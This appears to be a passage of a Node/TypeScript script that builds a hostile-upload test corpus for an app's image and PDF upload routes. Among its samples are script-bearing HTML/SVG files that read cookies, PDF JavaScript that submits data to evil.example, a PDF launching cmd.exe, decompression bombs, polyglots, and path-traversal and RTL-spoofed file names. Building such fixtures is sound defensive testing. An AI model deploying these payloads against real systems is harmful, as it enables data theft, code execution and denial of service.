/**
 * Writes the hostile upload corpus to tests/fixtures/hostile/ (issue 10): files an intruder would
 * send to the upload routes, each with what it is and what the routes must do with it, in
 * manifest.json. Deterministic: running it again writes the same files. The API test
 * tests/api/hostileUploads.test.ts walks every file through every upload route.
 *
 *   node_modules/.bin/tsx scripts/generate-hostile-corpus.ts
 */
import { mkdir, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { crc32, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import sharp from 'sharp';

/**
 * `image`: what the image routes (app logo, footer logo, child photo) must do; `document`: what the
 * document routes (upload-file, update-file, upload-files) must do.
 * - refused: 400 naming the field, nothing stored on disk or in the database;
 * - neutralised: accepted, but what is served is a re-encoded image (no metadata, nothing after
 *   the image) named from the record;
 * - accepted: a clean PDF, served as sent, named from the record.
 */
export type THostileOutcome = 'refused' | 'neutralised' | 'accepted';
export type THostileEntry = {
  file: string;
  /** The file name the client claims (multipart filename), hostile names included. */
  sentAs: string;
  /** The Content-Type the client claims. */
  contentType: string;
  what: string;
  image: THostileOutcome;
  document: THostileOutcome;
};

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
const outDir = path.join(root, 'tests/fixtures/hostile');

// ---- building blocks -------------------------------------------------------------------------

/** A deterministic pseudo-random byte sequence (no Math.random: the corpus must not change). */
const noise = (length: number, seed = 1) => {
  const bytes = Buffer.alloc(length);
  let state = seed >>> 0 || 1;
  for (let index = 0; index < length; index += 1) {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    bytes[index] = state & 0xff;
  }
  return bytes;
};

/** A picture with some detail (a gradient), so the encoders have real data to write. */
const picture = (width: number, height: number, channels: 3 | 4 = 3) => {
  const raw = Buffer.alloc(width * height * channels);
  for (let y = 0; y < height; y += 1) {
    for (let x = 0; x < width; x += 1) {
      const at = (y * width + x) * channels;
      raw[at] = (x * 255) / width;
      raw[at + 1] = (y * 255) / height;
      raw[at + 2] = ((x + y) * 127) / (width + height);
      if (channels === 4) raw[at + 3] = x < width / 2 ? 255 : 64;
    }
  }
  return sharp(raw, { raw: { width, height, channels } });
};

const pngChunk = (type: string, data: Buffer) => {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typeAndData = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([length, typeAndData, crc]);
};
const pngSignature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const ihdr = (width: number, height: number, bitDepth: number, colourType: number) => {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width, 0);
  data.writeUInt32BE(height, 4);
  data[8] = bitDepth;
  data[9] = colourType;
  return pngChunk('IHDR', data);
};
/** A greyscale 1-bit PNG of all-black rows, written by hand: tiny on disk, huge once decoded. */
const blackPng = (width: number, height: number) => {
  const row = Buffer.alloc(1 + Math.ceil(width / 8));
  const rows = Buffer.alloc(row.length * height);
  return Buffer.concat([
    pngSignature,
    ihdr(width, height, 1, 0),
    pngChunk('IDAT', deflateSync(rows, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
};
/** Inserts a chunk just before IEND. */
const withPngChunk = (png: Buffer, chunk: Buffer) =>
  Buffer.concat([png.subarray(0, png.length - 12), chunk, png.subarray(png.length - 12)]);

/** A small ZIP archive holding one stored file (the payload of an image+ZIP polyglot). */
const zipOf = (name: string, content: string) => {
  const data = Buffer.from(content);
  const nameBytes = Buffer.from(name);
  const crc = crc32(data);
  /** The CRC, both sizes (stored: equal) and the name's length, in the order both headers keep them. */
  const writeFileFacts = (header: Buffer, at: number) => {
    header.writeUInt32LE(crc, at);
    header.writeUInt32LE(data.length, at + 4);
    header.writeUInt32LE(data.length, at + 8);
    header.writeUInt16LE(nameBytes.length, at + 12);
  };
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  writeFileFacts(local, 14);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  writeFileFacts(central, 16);
  const localLength = local.length + nameBytes.length + data.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + nameBytes.length, 12);
  end.writeUInt32LE(localLength, 16);
  return Buffer.concat([local, nameBytes, data, central, nameBytes, end]);
};

/** A PDF written by hand from object bodies (object n is `objects[n - 1]`), with a correct xref. */
const rawPdf = (objects: string[], options: { trailer?: string; brokenXref?: boolean } = {}) => {
  let text = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((body, index) => {
    offsets.push(Buffer.byteLength(text, 'latin1'));
    text += `${index + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xrefAt = Buffer.byteLength(text, 'latin1');
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) {
    text += `${String(options.brokenXref ? offset + 7919 : offset).padStart(10, '0')} 00000 n \n`;
  }
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${options.trailer ?? ''} >>\n`;
  text += `startxref\n${options.brokenXref ? xrefAt + 13 : xrefAt}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
};
/** Catalog (1), pages (2), one page (3), and whatever the catalog and page are given. */
const onePagePdf = (catalogExtra = '', pageExtra = '', more: string[] = [], trailer = '') =>
  rawPdf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${catalogExtra} >>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] ${pageExtra} >>`,
      ...more,
    ],
    { trailer },
  );

/** A clean PDF made by pdf-lib, with an action added to its catalog (stored in an object stream). */
const pdfLibWith = async (addTo: (document: PDFDocument) => void, useObjectStreams = true) => {
  // No creation date or producer: the same bytes on every run.
  const document = await PDFDocument.create({ updateMetadata: false });
  document.addPage([200, 200]);
  addTo(document);
  return Buffer.from(await document.save({ useObjectStreams }));
};

const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), noise(248, 7)]);
const mz = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), noise(400, 9)]);
const html = Buffer.from(
  '<!doctype html><html><body><script>fetch("/api/v1/users").then(r=>r.text()).then(alert)</script></body></html>\n',
);
const svg = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">' +
    '<script>alert(document.cookie)</script><rect width="10" height="10"/></svg>\n',
);

// ---- the corpus -------------------------------------------------------------------------------

const build = async (): Promise<[Omit<THostileEntry, 'file'> & { name: string }, Buffer][]> => {
  const jpeg = await picture(64, 48).jpeg({ quality: 80 }).toBuffer();
  const png = await picture(40, 30).png().toBuffer();
  const pngAlpha = await picture(40, 30, 4).png().toBuffer();
  const webp = await picture(48, 32).webp({ quality: 80 }).toBuffer();
  const gif = await picture(32, 24).gif().toBuffer();
  const tiff = await picture(16, 16).tiff().toBuffer();
  const avif = await picture(16, 16).avif().toBuffer();
  const gps = {
    IFD0: { Make: 'Phone', Model: 'Hostile corpus' },
    IFD3: {
      GPSLatitudeRef: 'N',
      GPSLatitude: '11/1 33/1 25/1',
      GPSLongitudeRef: 'E',
      GPSLongitude: '104/1 55/1 0/1',
    },
  };
  const jpegGps = await picture(64, 48).jpeg().withExif(gps).toBuffer();
  const cleanPdf = await pdfLibWith(() => {});
  const jpegOfDims = (width: number, height: number) => {
    const patched = Buffer.from(jpeg);
    for (let at = 2; at < patched.length - 9; at += 1) {
      // SOF0/SOF2: FF C0|C2, length (2), precision (1), height (2), width (2).
      if (patched[at] === 0xff && (patched[at + 1] === 0xc0 || patched[at + 1] === 0xc2)) {
        patched.writeUInt16BE(height, at + 5);
        patched.writeUInt16BE(width, at + 7);
        return patched;
      }
    }
    throw new Error('no SOF marker');
  };
  const flipped = (bytes: Buffer, from: number, to: number, value = 0x5a) => {
    const copy = Buffer.from(bytes);
    for (let at = from; at < to; at += 1) copy[at] = value;
    return copy;
  };
  const dhtAt = jpeg.indexOf(Buffer.from([0xff, 0xc4]));
  const idatAt = png.indexOf(Buffer.from('IDAT'));
  const gifFlood = Buffer.from(gif);
  gifFlood.writeUInt16LE(65535, 6);
  gifFlood.writeUInt16LE(65535, 8);
  // The first image descriptor too (after the global colour table): a decoder draws the frame.
  const descriptorAt = gifFlood.indexOf(0x2c, 13 + 3 * 2 ** ((gifFlood[10] & 7) + 1));
  gifFlood.writeUInt16LE(65535, descriptorAt + 5);
  gifFlood.writeUInt16LE(65535, descriptorAt + 7);
  const webpFlood = Buffer.from(webp);
  const vp8At = webpFlood.indexOf(Buffer.from('VP8 '));
  // The VP8 key frame's 14-bit width and height (8 bytes into its data, after the start code).
  webpFlood.writeUInt16LE(16383, vp8At + 8 + 6);
  webpFlood.writeUInt16LE(16383, vp8At + 8 + 8);
  const jsAction = (document: PDFDocument) =>
    document.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("hostile")') });

  const image = 'neutralised' as const;
  const refused = 'refused' as const;
  const entries: [Omit<THostileEntry, 'file'> & { name: string }, Buffer][] = [
    // Damaged images: refused.
    [
      {
        name: 'jpeg-truncated-half.jpg',
        sentAs: 'photo.jpg',
        contentType: 'image/jpeg',
        what: 'A JPEG cut off half way.',
        image: refused,
        document: refused,
      },
      jpeg.subarray(0, jpeg.length >> 1),
    ],
    [
      {
        name: 'jpeg-truncated-header.jpg',
        sentAs: 'photo.jpg',
        contentType: 'image/jpeg',
        what: 'Only the first 160 bytes of a JPEG (headers, no scan).',
        image: refused,
        document: refused,
      },
      jpeg.subarray(0, 160),
    ],
    [
      {
        name: 'jpeg-no-eoi.jpg',
        sentAs: 'photo.jpg',
        contentType: 'image/jpeg',
        what: 'A JPEG missing its last 40 bytes and end marker.',
        image: refused,
        document: refused,
      },
      jpeg.subarray(0, jpeg.length - 40),
    ],
    [
      {
        name: 'jpeg-corrupt-huffman.jpg',
        sentAs: 'photo.jpg',
        contentType: 'image/jpeg',
        what: 'A JPEG whose Huffman table is overwritten.',
        image: refused,
        document: refused,
      },
      flipped(jpeg, dhtAt + 4, dhtAt + 40, 0xff),
    ],
    [
      {
        name: 'png-truncated-idat.png',
        sentAs: 'photo.png',
        contentType: 'image/png',
        what: 'A PNG cut off inside its image data.',
        image: refused,
        document: refused,
      },
      png.subarray(0, idatAt + 60),
    ],
    [
      {
        name: 'png-bad-crc.png',
        sentAs: 'photo.png',
        contentType: 'image/png',
        what: 'A PNG whose image data was changed after its checksum.',
        image: refused,
        document: refused,
      },
      flipped(png, idatAt + 20, idatAt + 30),
    ],
    [
      {
        name: 'png-header-only.png',
        sentAs: 'photo.png',
        contentType: 'image/png',
        what: 'A PNG signature and header, no image data.',
        image: refused,
        document: refused,
      },
      Buffer.concat([pngSignature, ihdr(40, 30, 8, 2), pngChunk('IEND', Buffer.alloc(0))]),
    ],
    [
      {
        name: 'png-garbage-idat.png',
        sentAs: 'photo.png',
        contentType: 'image/png',
        what: 'A PNG whose image data is not zlib data (valid checksums).',
        image: refused,
        document: refused,
      },
      Buffer.concat([
        pngSignature,
        ihdr(40, 30, 8, 2),
        pngChunk('IDAT', noise(300, 3)),
        pngChunk('IEND', Buffer.alloc(0)),
      ]),
    ],
    [
      {
        name: 'webp-truncated.webp',
        sentAs: 'photo.webp',
        contentType: 'image/webp',
        what: 'A WebP cut off half way.',
        image: refused,
        document: refused,
      },
      webp.subarray(0, webp.length >> 1),
    ],
    [
      {
        name: 'webp-corrupt.webp',
        sentAs: 'photo.webp',
        contentType: 'image/webp',
        what: 'A WebP whose frame header is overwritten.',
        image: refused,
        document: refused,
      },
      flipped(webp, vp8At + 8, vp8At + 20, 0),
    ],
    [
      {
        name: 'gif-truncated.gif',
        sentAs: 'photo.gif',
        contentType: 'image/gif',
        what: 'A GIF cut off after its header.',
        image: refused,
        document: refused,
      },
      gif.subarray(0, 30),
    ],
    // Pixel floods and decompression bombs: refused from the header.
    [
      {
        name: 'png-flood-65535.png',
        sentAs: 'photo.png',
        contentType: 'image/png',
        what: 'A 65535x65535 PNG header with a few bytes of data (4.3 gigapixels).',
        image: refused,
        document: refused,
      },
      Buffer.concat([
        pngSignature,
        ihdr(65535, 65535, 8, 6),
        pngChunk('IDAT', deflateSync(Buffer.alloc(1000))),
        pngChunk('IEND', Buffer.alloc(0)),
      ]),
    ],
    [
      {
        name: 'jpeg-flood-65535.jpg',
        sentAs: 'photo.jpg',
        contentType: 'image/jpeg',
        what: 'A JPEG whose frame header says 65535x65535.',
        image: refused,
        document: refused,
      },
      jpegOfDims(65535, 65535),
    ],
    [
      {
        name: 'gif-flood-65535.gif',
        sentAs: 'photo.gif',
        contentType: 'image/gif',
        what: 'A GIF whose screen and first frame say 65535x65535.',
        image: refused,
        document: refused,
      },
      gifFlood,
    ],
    [
      {
        name: 'webp-flood-16383.webp',
        sentAs: 'photo.webp',
        contentType: 'image/webp',
        what: 'A WebP whose frame says 16383x16383 (268 megapixels).',
        image: refused,
        document: refused,
      },
      webpFlood,
    ],
    [
      {
        name: 'jpeg-flood-8000.jpg',
        sentAs: 'photo.jpg',
        contentType: 'image/jpeg',
        what: 'A JPEG header of 8000x8000 (64 megapixels, over the 50 megapixel limit).',
        image: refused,
        document: refused,
      },
      jpegOfDims(8000, 8000),
    ],
    [
      {
        name: 'png-bomb-30000.png',
        sentAs: 'photo.png',
        contentType: 'image/png',
        what: 'A decompression bomb: a 30000x30000 black PNG (900 megapixels) of about 110 KB.',
        image: refused,
        document: refused,
      },
      blackPng(30000, 30000),
    ],
    [
      {
        name: 'png-bomb-8000.png',
        sentAs: 'photo.png',
        contentType: 'image/png',
        what: 'A decompression bomb just over the limit: 8000x7000 black, a few KB.',
        image: refused,
        document: refused,
      },
      blackPng(8000, 7000),
    ],
    [
      {
        name: 'png-large-under-limit.png',
        sentAs: 'photo.png',
        contentType: 'image/png',
        what: 'A 3000x2000 black PNG (6 megapixels) of a few KB: under the limit, decoded and re-encoded.',
        image,
        document: image,
      },
      blackPng(3000, 2000),
    ],
    [
      {
        name: 'png-ztxt-bomb.png',
        sentAs: 'photo.png',
        contentType: 'image/png',
        what: 'A PNG with a compressed text chunk that inflates to 64 MB.',
        image,
        document: image,
      },
      withPngChunk(
        png,
        pngChunk(
          'zTXt',
          Buffer.concat([
            Buffer.from('Comment\0\0'),
            deflateSync(Buffer.alloc(64 * 1024 * 1024), { level: 9 }),
          ]),
        ),
      ),
    ],
    // Polyglots: the payload is gone once re-encoded.
    [
      {
        name: 'png-html-polyglot.png',
        sentAs: 'photo.png',
        contentType: 'image/png',
        what: 'A PNG followed by an HTML page with a script.',
        image,
        document: image,
      },
      Buffer.concat([png, html]),
    ],
    [
      {
        name: 'jpeg-html-polyglot.jpg',
        sentAs: 'photo.jpg',
        contentType: 'image/jpeg',
        what: 'A JPEG followed by an HTML page with a script.',
        image,
        document: image,
      },
      Buffer.concat([jpeg, html]),
    ],
    [
      {
        name: 'png-zip-polyglot.png',
        sentAs: 'photo.png',
        contentType: 'image/png',
        what: 'A PNG followed by a ZIP archive (a valid ZIP from its end).',
        image,
        document: image,
      },
      Buffer.concat([png, zipOf('run.bat', 'calc.exe\r\n')]),
    ],
    [
      {
        name: 'jpeg-zip-polyglot.jpg',
        sentAs: 'photo.jpg',
        contentType: 'image/jpeg',
        what: 'A JPEG followed by a ZIP archive.',
        image,
        document: image,
      },
      Buffer.concat([jpeg, zipOf('index.html', html.toString())]),
    ],
    [
      {
        name: 'webp-html-polyglot.webp',
        sentAs: 'photo.webp',
        contentType: 'image/webp',
        what: 'A WebP followed by an HTML page.',
        image,
        document: image,
      },
      Buffer.concat([webp, html]),
    ],
    [
      {
        name: 'gif-html-polyglot.gif',
        sentAs: 'photo.gif',
        contentType: 'image/gif',
        what: 'A GIF followed by an HTML page.',
        image,
        document: image,
      },
      Buffer.concat([gif, html]),
    ],
    [
      {
        name: 'jpeg-html-comment.jpg',
        sentAs: 'photo.jpg',
        contentType: 'image/jpeg',
        what: 'A JPEG with an HTML page in a comment segment.',
        image,
        document: image,
      },
      Buffer.concat([
        jpeg.subarray(0, 2),
        Buffer.from([0xff, 0xfe]),
        Buffer.from([0, html.length + 2]),
        html,
        jpeg.subarray(2),
      ]),
    ],
    [
      {
        name: 'png-html-text-chunk.png',
        sentAs: 'photo.png',
        contentType: 'image/png',
        what: 'A PNG with an HTML page in a text chunk.',
        image,
        document: image,
      },
      withPngChunk(png, pngChunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), html]))),
    ],
    [
      {
        name: 'png-alpha-logo.png',
        sentAs: 'logo.png',
        contentType: 'image/png',
        what: 'A PNG with transparency (half transparent): re-encoded, transparency kept.',
        image,
        document: image,
      },
      pngAlpha,
    ],
    // Metadata: stripped.
    [
      {
        name: 'jpeg-exif-gps.jpg',
        sentAs: 'IMG_0001.jpg',
        contentType: 'image/jpeg',
        what: 'A JPEG with EXIF GPS coordinates (Phnom Penh).',
        image,
        document: image,
      },
      jpegGps,
    ],
    [
      {
        name: 'jpeg-exif-gps-rotated.jpg',
        sentAs: 'IMG_0002.jpg',
        contentType: 'image/jpeg',
        what: 'A JPEG with EXIF GPS and orientation 6: turned upright, EXIF gone.',
        image,
        document: image,
      },
      await picture(64, 48).jpeg().withExif(gps).withMetadata({ orientation: 6 }).toBuffer(),
    ],
    [
      {
        name: 'png-exif-gps.png',
        sentAs: 'screenshot.png',
        contentType: 'image/png',
        what: 'A PNG with an eXIf chunk holding GPS coordinates.',
        image,
        document: image,
      },
      await picture(40, 30).png().withExif(gps).toBuffer(),
    ],
    [
      {
        name: 'webp-exif-gps.webp',
        sentAs: 'photo.webp',
        contentType: 'image/webp',
        what: 'A WebP with EXIF GPS coordinates.',
        image,
        document: image,
      },
      await picture(48, 32).webp().withExif(gps).toBuffer(),
    ],
    [
      {
        name: 'jpeg-xmp-gps.jpg',
        sentAs: 'photo.jpg',
        contentType: 'image/jpeg',
        what: 'A JPEG with XMP metadata naming a location.',
        image,
        document: image,
      },
      await picture(64, 48)
        .jpeg()
        .withXmp(
          '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="11,33.4N" exif:GPSLongitude="104,55.0E"/></rdf:RDF></x:xmpmeta>',
        )
        .toBuffer(),
    ],
    // Disguised types: refused by their content.
    [
      {
        name: 'html-as-jpg.jpg',
        sentAs: 'photo.jpg',
        contentType: 'image/jpeg',
        what: 'An HTML page with a script, named .jpg.',
        image: refused,
        document: refused,
      },
      html,
    ],
    [
      {
        name: 'html-as-pdf.pdf',
        sentAs: 'report.pdf',
        contentType: 'application/pdf',
        what: 'An HTML page with a script, named .pdf.',
        image: refused,
        document: refused,
      },
      html,
    ],
    [
      {
        name: 'svg-script-as-jpg.jpg',
        sentAs: 'photo.jpg',
        contentType: 'image/jpeg',
        what: 'An SVG with a script, named .jpg.',
        image: refused,
        document: refused,
      },
      svg,
    ],
    [
      {
        name: 'svg-script.svg',
        sentAs: 'logo.svg',
        contentType: 'image/svg+xml',
        what: 'An SVG with a script, as itself.',
        image: refused,
        document: refused,
      },
      svg,
    ],
    [
      {
        name: 'exe-as-pdf.pdf',
        sentAs: 'invoice.pdf',
        contentType: 'application/pdf',
        what: 'A Windows executable (MZ) named .pdf.',
        image: refused,
        document: refused,
      },
      mz,
    ],
    [
      {
        name: 'exe-as-jpg.jpg',
        sentAs: 'photo.jpg',
        contentType: 'image/jpeg',
        what: 'A Windows executable (MZ) named .jpg.',
        image: refused,
        document: refused,
      },
      mz,
    ],
    [
      {
        name: 'elf-as-png.png',
        sentAs: 'photo.png',
        contentType: 'image/png',
        what: 'A Linux executable (ELF) named .png.',
        image: refused,
        document: refused,
      },
      elf,
    ],
    [
      {
        name: 'zip-as-jpg.jpg',
        sentAs: 'photo.jpg',
        contentType: 'image/jpeg',
        what: 'A ZIP archive named .jpg.',
        image: refused,
        document: refused,
      },
      zipOf('a.txt', 'hello'),
    ],
    [
      {
        name: 'zip-as-pdf.pdf',
        sentAs: 'scan.pdf',
        contentType: 'application/pdf',
        what: 'A ZIP archive named .pdf.',
        image: refused,
        document: refused,
      },
      zipOf('a.txt', 'hello'),
    ],
    [
      {
        name: 'tiff-as-png.png',
        sentAs: 'scan.png',
        contentType: 'image/png',
        what: 'A TIFF (a type not accepted) named .png.',
        image: refused,
        document: refused,
      },
      tiff,
    ],
    [
      {
        name: 'avif-as-jpg.jpg',
        sentAs: 'photo.jpg',
        contentType: 'image/jpeg',
        what: 'An AVIF (a type not accepted) named .jpg.',
        image: refused,
        document: refused,
      },
      avif,
    ],
    [
      {
        name: 'gifar-js.gif',
        sentAs: 'photo.gif',
        contentType: 'image/gif',
        what: 'A GIF header followed by JavaScript (GIFAR-style), not an image.',
        image: refused,
        document: refused,
      },
      Buffer.from('GIF89a/*\x01\x01\x00\x00*/=1;alert(document.cookie);//\n'),
    ],
    // Names: the label is cleaned, the download is named from the record.
    [
      {
        name: 'name-rtl-override.jpg',
        sentAs: 'photo\u202Egpj.exe',
        contentType: 'image/jpeg',
        what: 'A JPEG named with a right-to-left override (shows as photoexe.jpg).',
        image,
        document: image,
      },
      jpeg,
    ],
    [
      {
        name: 'name-exe.png',
        sentAs: 'photo.exe',
        contentType: 'application/x-msdownload',
        what: 'A PNG named photo.exe.',
        image,
        document: image,
      },
      png,
    ],
    [
      {
        name: 'name-path-traversal.png',
        sentAs: '../../../etc/passwd.png',
        contentType: 'image/png',
        what: 'A PNG whose name climbs out of the directory.',
        image,
        document: image,
      },
      png,
    ],
    [
      {
        name: 'name-bidi-isolate.pdf',
        sentAs: 'report\u2067fdp.exe\u2069.pdf',
        contentType: 'application/pdf',
        what: 'A clean PDF named with bidi isolates.',
        image: refused,
        document: 'accepted',
      },
      cleanPdf,
    ],
    [
      {
        name: 'name-control-chars.pdf',
        sentAs: 'a\u0007b\u001b[31m.pdf',
        contentType: 'application/pdf',
        what: 'A clean PDF named with control characters (bell, escape).',
        image: refused,
        document: 'accepted',
      },
      cleanPdf,
    ],
    // Sizes.
    [
      {
        name: 'zero-bytes.jpg',
        sentAs: 'photo.jpg',
        contentType: 'image/jpeg',
        what: 'An empty file.',
        image: refused,
        document: refused,
      },
      Buffer.alloc(0),
    ],
    [
      {
        name: 'over-2000000-bytes.png',
        sentAs: 'photo.png',
        contentType: 'image/png',
        what: 'A PNG padded to 2,000,001 bytes: over the image limit, under the document limit.',
        image: refused,
        document: image,
      },
      Buffer.concat([png, Buffer.alloc(2_000_001 - png.length)]),
    ],
    // PDFs.
    [
      {
        name: 'pdf-clean.pdf',
        sentAs: 'birth-certificate.pdf',
        contentType: 'application/pdf',
        what: 'A clean one-page PDF: kept as sent.',
        image: refused,
        document: 'accepted',
      },
      cleanPdf,
    ],
    [
      {
        name: 'pdf-openaction-js.pdf',
        sentAs: 'report.pdf',
        contentType: 'application/pdf',
        what: 'A PDF whose OpenAction runs JavaScript.',
        image: refused,
        document: refused,
      },
      onePagePdf('/OpenAction 4 0 R', '', [
        '<< /Type /Action /S /JavaScript /JS (app.alert\\("hostile"\\)) >>',
      ]),
    ],
    [
      {
        name: 'pdf-names-javascript.pdf',
        sentAs: 'report.pdf',
        contentType: 'application/pdf',
        what: 'A PDF with document-level JavaScript in its names tree.',
        image: refused,
        document: refused,
      },
      onePagePdf('/Names << /JavaScript 4 0 R >>', '', [
        '<< /Names [(init) 5 0 R] >>',
        '<< /S /JavaScript /JS 6 0 R >>',
        '<< /Length 22 >>\nstream\napp.alert("hostile");\nendstream',
      ]),
    ],
    [
      {
        name: 'pdf-page-aa-js.pdf',
        sentAs: 'report.pdf',
        contentType: 'application/pdf',
        what: 'A PDF whose page-open additional action (AA) runs JavaScript.',
        image: refused,
        document: refused,
      },
      onePagePdf('', '/AA << /O 4 0 R >>', [
        '<< /S /JavaScript /JS (this.submitForm\\("http://evil.example"\\)) >>',
      ]),
    ],
    [
      {
        name: 'pdf-link-js.pdf',
        sentAs: 'report.pdf',
        contentType: 'application/pdf',
        what: 'A PDF with a link annotation whose action is JavaScript.',
        image: refused,
        document: refused,
      },
      onePagePdf('', '/Annots [4 0 R]', [
        '<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /JavaScript /JS (app.alert\\(1\\)) >> >>',
      ]),
    ],
    [
      {
        name: 'pdf-launch.pdf',
        sentAs: 'report.pdf',
        contentType: 'application/pdf',
        what: 'A PDF whose OpenAction launches cmd.exe.',
        image: refused,
        document: refused,
      },
      onePagePdf('/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'),
    ],
    [
      {
        name: 'pdf-embedded-file.pdf',
        sentAs: 'report.pdf',
        contentType: 'application/pdf',
        what: 'A PDF carrying an embedded executable (EmbeddedFiles name tree).',
        image: refused,
        document: refused,
      },
      onePagePdf('/Names << /EmbeddedFiles << /Names [(setup.exe) 4 0 R] >> >>', '', [
        '<< /Type /Filespec /F (setup.exe) /EF << /F 5 0 R >> >>',
        `<< /Type /EmbeddedFile /Length ${mz.length} >>\nstream\n${mz.toString('latin1')}\nendstream`,
      ]),
    ],
    [
      {
        name: 'pdf-file-attachment-annot.pdf',
        sentAs: 'report.pdf',
        contentType: 'application/pdf',
        what: 'A PDF with a file attachment annotation holding an embedded file.',
        image: refused,
        document: refused,
      },
      onePagePdf('', '/Annots [4 0 R]', [
        '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS << /Type /Filespec /F (a.bat) /EF << /F 5 0 R >> >> >>',
        '<< /Type /EmbeddedFile /Length 8 >>\nstream\ncalc.exe\nendstream',
      ]),
    ],
    [
      {
        name: 'pdf-richmedia.pdf',
        sentAs: 'report.pdf',
        contentType: 'application/pdf',
        what: 'A PDF with a RichMedia (Flash) annotation.',
        image: refused,
        document: refused,
      },
      onePagePdf('', '/Annots [4 0 R]', [
        '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 20 20] /RichMediaContent << /Assets << /Names [] >> >> >>',
      ]),
    ],
    [
      {
        name: 'pdf-xfa.pdf',
        sentAs: 'form.pdf',
        contentType: 'application/pdf',
        what: 'A PDF with an XFA form (XFA carries its own scripts).',
        image: refused,
        document: refused,
      },
      onePagePdf('/AcroForm << /Fields [] /XFA 4 0 R >>', '', [
        '<< /Length 44 >>\nstream\n<xdp:xdp><script>app.alert(1)</script></xdp>\nendstream',
      ]),
    ],
    [
      {
        name: 'pdf-js-object-stream.pdf',
        sentAs: 'report.pdf',
        contentType: 'application/pdf',
        what: 'A PDF whose OpenAction JavaScript sits in a compressed object stream (invisible in the raw bytes).',
        image: refused,
        document: refused,
      },
      await pdfLibWith((document) =>
        document.catalog.set(PDFName.of('OpenAction'), document.context.register(jsAction(document))),
      ),
    ],
    [
      {
        name: 'pdf-js-hex-escaped.pdf',
        sentAs: 'report.pdf',
        contentType: 'application/pdf',
        what: 'A PDF whose JavaScript action names are #-escaped (/J#53, /Java#53cript).',
        image: refused,
        document: refused,
      },
      onePagePdf('/OpenAction 4 0 R', '', ['<< /Type /Action /S /Java#53cript /J#53 (app.alert\\(1\\)) >>']),
    ],
    [
      {
        name: 'pdf-js-broken-xref.pdf',
        sentAs: 'report.pdf',
        contentType: 'application/pdf',
        what: 'A PDF with JavaScript and a cross-reference table pointing at wrong offsets.',
        image: refused,
        document: refused,
      },
      rawPdf(
        [
          '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
          '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
          '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
          '<< /S /JavaScript /JS (app.alert\\(1\\)) >>',
        ],
        { brokenXref: true },
      ),
    ],
    [
      {
        name: 'pdf-encrypted.pdf',
        sentAs: 'locked.pdf',
        contentType: 'application/pdf',
        what: 'A PDF whose trailer says it is encrypted: its objects cannot be inspected.',
        image: refused,
        document: refused,
      },
      onePagePdf(
        '',
        '',
        ['<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <00> /U <00> >>'],
        '/Encrypt 4 0 R /ID [<01020304> <01020304>]',
      ),
    ],
    [
      {
        name: 'pdf-truncated.pdf',
        sentAs: 'report.pdf',
        contentType: 'application/pdf',
        what: 'A clean PDF cut off after its header.',
        image: refused,
        document: refused,
      },
      cleanPdf.subarray(0, 40),
    ],
    [
      {
        name: 'pdf-garbage.pdf',
        sentAs: 'report.pdf',
        contentType: 'application/pdf',
        what: 'A PDF header followed by noise.',
        image: refused,
        document: refused,
      },
      Buffer.concat([Buffer.from('%PDF-1.7\n'), noise(2000, 11)]),
    ],
    [
      {
        name: 'pdf-no-pages.pdf',
        sentAs: 'report.pdf',
        contentType: 'application/pdf',
        what: 'A PDF without a page.',
        image: refused,
        document: refused,
      },
      rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
    ],
    [
      {
        name: 'pdf-html-after-eof.pdf',
        sentAs: 'report.pdf',
        contentType: 'application/pdf',
        what: 'A clean PDF followed by an HTML page after its end (a PDF+HTML polyglot).',
        image: refused,
        document: refused,
      },
      Buffer.concat([cleanPdf, html]),
    ],
    [
      {
